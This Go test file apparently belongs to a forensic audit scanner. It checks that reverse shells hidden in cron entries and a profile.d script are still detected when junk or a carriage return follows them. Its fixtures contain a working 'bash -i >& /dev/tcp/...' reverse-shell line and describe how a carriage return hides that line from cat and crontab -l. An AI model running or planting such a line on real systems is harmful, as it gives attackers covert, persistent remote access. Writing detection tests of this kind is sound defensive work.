package shell

import (
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// TestTrailingJunk: a command line that stops parsing after its command (padding and a stray
// redirection after a carriage return, which hides the line from cat and crontab -l; an
// unclosed quote or bracket) is read up to its syntax error, so the reverse shell before it is
// still found; a line with nothing before the error stays silent.
func TestTrailingJunk(t *testing.T) {
	rs := "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"
	for _, tail := range []string{"\r            <pad>   ", " ; )", " && (", " \r\t\t > ", " <<<"} {
		for p, text := range map[string]string{
			"/var/spool/cron/crontabs/root": "* * * * * " + rs + tail + "\n",
			"/etc/cron.d/sync":              "*/5 * * * * root /bin/bash -c '" + rs + "'" + tail + "\n",
			"/etc/profile.d/z.sh":           "(" + rs + " &)" + tail + "\n",
		} {
			fs := scanFile(p, text)
			if len(fs) == 0 || fs[0].Severity < audit.High {
				t.Errorf("%s %q: %v", p, text, fs)
			}
		}
	}
	if fs := scanFile("/etc/cron.d/x", "* * * * * root > \r <x> >\n"); len(fs) > 0 {
		t.Errorf("junk alone: %v", fs)
	}
}
